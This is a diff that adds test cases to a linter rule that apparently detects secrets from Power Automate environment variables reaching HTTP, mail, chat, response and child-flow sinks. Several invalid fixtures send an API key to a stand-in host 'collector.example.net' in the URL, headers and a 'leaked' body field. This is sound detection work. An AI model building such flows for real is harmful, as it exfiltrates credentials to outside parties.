@@ -89,6 +89,83 @@ const valid: RuleCase[] = SHAPES.flatMap((shape) => [
   },
 ]);
 
+/** A raw-request connector operation (src/model/raw-requests.ts) with parameters as the designer writes them. */
+const raw = (api: string, params: Record<string, unknown>, operationId = 'HttpRequest') =>
+  connector(api, operationId, params);
+const entra = (api: string, params: Record<string, unknown>) => raw(api, params, 'InvokeHttp');
+/** The legacy (ApiConnection) form of HTTP with Microsoft Entra ID: the request object in `inputs.body`. */
+const entraLegacy = (request: Record<string, unknown>) => ({
+  type: 'ApiConnection',
+  inputs: {
+    host: { connection: { name: "@parameters('$connections')['webcontents']['connectionId']" } },
+    method: 'post',
+    path: '/codeless/InvokeHttp',
+    body: request,
+  },
+  runAfter: {},
+});
+const env = { Get_env: envVarSecret('fg_ApiKey') };
+const envValue = "@{body('Get_env')?['EnvironmentVariableValue']}";
+
+valid.push(
+  ...['webcontents', 'webcontentsv2'].map((api) => ({
+    name: `${api}: secret only in credential headers of request/headers`,
+    flow: flowFile({
+      ...env,
+      Call: entra(api, {
+        'request/method': 'GET',
+        'request/url': 'https://graph.microsoft.com/v1.0/me',
+        'request/headers': { Authorization: `Bearer ${envValue}`, 'x-api-key': envValue },
+      }),
+    }),
+  })),
+  {
+    name: 'raw requests: credential headers of SharePoint, a flattened header, an Outlook CustomHeader, legacy Entra',
+    flow: flowFile({
+      ...env,
+      Init: initVar('k', envValue),
+      Sp: raw('sharepointonline', {
+        dataset: 'https://contoso.sharepoint.com/sites/hr',
+        'parameters/method': 'GET',
+        'parameters/uri': '_api/web',
+        'parameters/headers': { 'Ocp-Apim-Subscription-Key': "@variables('k')" },
+      }),
+      Flat: entra('webcontents', {
+        'request/url': 'https://api.contoso.com',
+        'request/headers/x-functions-key': envValue,
+      }),
+      Mail: raw('office365', {
+        Uri: 'https://graph.microsoft.com/v1.0/me/sendMail',
+        Method: 'POST',
+        CustomHeader1: "Authorization: Bearer @{variables('k')}",
+      }),
+      Legacy: entraLegacy({
+        method: 'GET',
+        url: 'https://api.contoso.com',
+        headers: { Authorization: envValue },
+      }),
+    }),
+  },
+  {
+    name: 'Entra HTTP to an allowed host',
+    options: { allowedHosts: ['*.contoso.com'] },
+    flow: flowFile({
+      ...env,
+      Call: entra('webcontents', { 'request/url': 'https://vault.contoso.com/in', 'request/body': envValue }),
+    }),
+  },
+  {
+    name: 'Dataverse unbound action given only its action name and non-secret data',
+    flow: flowFile({
+      ...env,
+      Act: connector('commondataserviceforapps', 'PerformUnboundAction', {
+        actionName: 'cr_Notify',
+        'item/Message': "@triggerBody()?['text']",
+      }),
+    }),
+  },
+);
+
 const invalid: InvalidCase[] = SHAPES.flatMap((shape): InvalidCase[] => [
   {
     name: `${shape}: secret read directly into an HTTP body`,
@@ -227,5 +304,127 @@ invalid.push(
     findings: [{ action: 'Mail', severity: 'critical', message: ['(mail)'] }],
   },
 );
+
+invalid.push(
+  ...['webcontents', 'webcontentsv2'].map((api): InvalidCase => ({
+    name: `${api}: secret in request/url, request/body and a non-credential header`,
+    flow: flowFile({
+      ...env,
+      Call: entra(api, {
+        'request/method': 'POST',
+        'request/url': `https://collector.example.net/in?k=${envValue}`,
+        'request/headers': { 'Content-Type': 'application/json', 'X-Data': envValue },
+        'request/body': { leaked: envValue },
+      }),
+    }),
+    findings: [
+      { action: 'Call', severity: 'critical', message: ['parameters.request/body (http-body)'] },
+      { action: 'Call', severity: 'critical', message: ['parameters.request/headers (http-header)'] },
+      { action: 'Call', severity: 'critical', message: ['parameters.request/url (http-uri)'] },
+    ],
+  })),
+  {
+    name: 'Graph sendMail and chat messages through raw requests are mail and chat sinks',
+    flow: flowFile({
+      ...env,
+      Init: initVar('k', envValue),
+      Outlook: raw('office365', {
+        Uri: 'https://graph.microsoft.com/v1.0/me/sendMail',
+        Method: 'POST',
+        Body: '{ "message": { "body": { "content": "@{variables(\'k\')}" } } }',
+        ContentType: 'application/json',
+      }),
+      Entra: entra('webcontents', {
+        'request/method': 'POST',
+        'request/url': "@{variables('GraphURL')}v1.0/users/ops@contoso.com/sendMail",
+        'request/body': { message: { body: { content: "@variables('k')" } } },
+      }),
+      Teams: raw('teams', {
+        Uri: 'https://graph.microsoft.com/v1.0/chats/19:abc/messages',
+        Method: 'POST',
+        Body: "@{variables('k')}",
+      }),
+      Users: raw('office365users', {
+        Uri: "https://graph.microsoft.com/v1.0/me/messages/@{variables('k')}",
+        Method: 'GET',
+      }),
+    }),
+    findings: [
+      { action: 'Entra', severity: 'critical', message: ['(mail)'] },
+      { action: 'Outlook', severity: 'critical', message: ['parameters.Body (mail)'] },
+      { action: 'Teams', severity: 'critical', message: ['(chat)'] },
+      { action: 'Users', severity: 'critical', message: ['parameters.Uri (http-uri)'] },
+    ],
+  },
+  {
+    name: 'SharePoint HttpRequest, a CustomHeader that is no credential, legacy Entra body and a Dataverse unbound action',
+    flow: flowFile({
+      ...env,
+      Sp: raw('sharepointonline', {
+        dataset: 'https://contoso.sharepoint.com/sites/hr',
+        'parameters/method': 'POST',
+        'parameters/uri': "_api/web/lists/getbytitle('Log')/items",
+        'parameters/body': `{ "Title": "${envValue}" }`,
+      }),
+      Groups: raw('office365groups', {
+        Uri: 'https://graph.microsoft.com/v1.0/groups',
+        Method: 'GET',
+        CustomHeader1: `X-Trace: ${envValue}`,
+      }),
+      Legacy: entraLegacy({
+        request: { method: 'POST', url: 'https://collector.example.net', body: envValue },
+      }),
+      Act: connector('commondataserviceforapps', 'PerformUnboundAction', {
+        actionName: 'cr_CallPartner',
+        'item/Payload': envValue,
+      }),
+    }),
+    findings: [
+      { action: 'Act', severity: 'critical', message: ['parameters.item/Payload (connector)'] },
+      { action: 'Groups', severity: 'critical', message: ['parameters.CustomHeader1 (http-header)'] },
+      { action: 'Legacy', severity: 'critical', message: ['in body (http-body)'] },
+      { action: 'Sp', severity: 'critical', message: ['parameters.parameters/body (http-body)'] },
+    ],
+  },
+);
+
+invalid.push({
+  name: 'SPEC §3 FG121 endpoints: Response headers, a Power Apps response, approval details, a child flow by name',
+  flow: flowFile({
+    ...env,
+    Init: initVar('k', envValue),
+    Reply: {
+      type: 'Response',
+      kind: 'Http',
+      inputs: { statusCode: 200, headers: { 'X-Debug': "@variables('k')" }, body: 'ok' },
+      runAfter: {},
+    },
+    ToApp: {
+      type: 'Response',
+      kind: 'PowerApp',
+      inputs: { statusCode: 200, body: { token: "@variables('k')" } },
+      runAfter: {},
+    },
+    Approve: connector('approvals', 'StartAndWaitForAnApproval', {
+      approvalType: 'Basic',
+      'WebhookApprovalCreationInput/title': 'Rotate',
+      'WebhookApprovalCreationInput/details': "Key: @{variables('k')}",
+    }),
+    Child: {
+      type: 'Workflow',
+      inputs: {
+        host: { workflowReferenceName: '5f3c4b1e-0000-4000-8000-000000000001' },
+        body: { text_1: "@variables('k')" },
+      },
+      runAfter: {},
+    },
+  }),
+  findings: [
+    { action: 'Approve', severity: 'critical', message: ['WebhookApprovalCreationInput/details (mail)'] },
+    { action: 'Child', severity: 'critical', message: ['(child-flow)'] },
+    { action: 'Reply', severity: 'critical', message: ['headers.X-Debug (response)'] },
+    { action: 'ToApp', severity: 'critical', message: ['(response)'] },
+  ],
+});
 
 ruleTester(fg121, { valid, invalid });
